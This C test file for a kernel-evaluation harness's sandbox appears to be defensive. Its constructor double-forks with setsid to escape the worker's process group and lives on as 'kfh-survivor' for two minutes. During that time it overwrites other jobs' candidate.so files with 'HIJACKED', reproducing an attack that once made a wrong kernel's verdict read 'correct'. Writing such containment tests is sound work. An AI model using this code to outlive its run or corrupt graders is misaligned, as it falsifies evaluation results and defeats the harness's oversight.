/*  Hostile, outliving the run (issue 13, item 1): a double fork with
 *  setsid (out of the process group the worker kills), a process named
 *  kfh-survivor that lives on for two minutes and overwrites the files of
 *  every later job it finds beside its own folder (the attack that once
 *  turned a wrong kernel's verdict into "correct": HIJACKED). Caught when
 *  no kfh-survivor runs once the job has ended, and a later honest job
 *  is still judged correct.
 *  It runs where code of a candidate's runs unconfined by the runner: in the
 *  evaluation child, as a CUDA or Level Zero candidate does (loaded into
 *  the judge; its constructors run at dlopen), or as a compiler does. The
 *  host backend's candidates run one process further in, under the
 *  runner's seccomp and Landlock, so the test loads this file as the job's
 *  reference: the same process, the same sandbox (kf_subproc.c). Its
 *  findings are its last line on stderr, which the worker stores. */
/* The scaffold (s_param, s_say, kf_forward) is sandbox_attack.h, put
 * before this file by test_hostile.sh. */

__attribute__ ((constructor)) static void
s_attack (void)
{
    char cwd[4096];
    if (!getcwd (cwd, sizeof cwd))
        s_say ("survivor", "no cwd");
    char *slash = strrchr (cwd, '/');
    char own[4096];
    snprintf (own, sizeof own, "%s", slash ? slash + 1 : cwd);
    if (slash)
        *slash = 0;
    pid_t pid = fork ();
    if (pid == 0) {
        setsid ();
        if (fork () != 0)
            _exit (0);
        prctl (PR_SET_NAME, "kfh-survivor", 0, 0, 0);
        for (int fd = 0; fd < 1024; fd++)
            close (fd);
        struct timespec start, now, nap = { 0, 2 * 1000 * 1000 };
        clock_gettime (CLOCK_MONOTONIC, &start);
        do {
            DIR *d = opendir (cwd);
            struct dirent *e;
            while (d && (e = readdir (d)) != NULL) {
                char path[8192];
                if (strncmp (e->d_name, "kf-", 3) || !strcmp (e->d_name, own)
                    || !strcmp (e->d_name, "kf-victim"))
                    continue;
                snprintf (path, sizeof path, "%s/%s/hijacked", cwd, e->d_name);
                if (access (path, F_OK) == 0)
                    continue;
                int fd = open (path, O_WRONLY | O_CREAT, 0644);
                if (fd >= 0)
                    close (fd);
                snprintf (path, sizeof path, "%s/%s/candidate.so", cwd, e->d_name);
                fd = open (path, O_WRONLY | O_TRUNC);
                if (fd >= 0) {
                    ssize_t w = write (fd, "HIJACKED", 8);
                    (void) w;
                    close (fd);
                }
            }
            if (d)
                closedir (d);
            nanosleep (&nap, NULL);
            clock_gettime (CLOCK_MONOTONIC, &now);
        } while (now.tv_sec - start.tv_sec < 120);
        _exit (0);
    }
    int status;
    waitpid (pid, &status, 0);
    s_say ("survivor", "started");
}
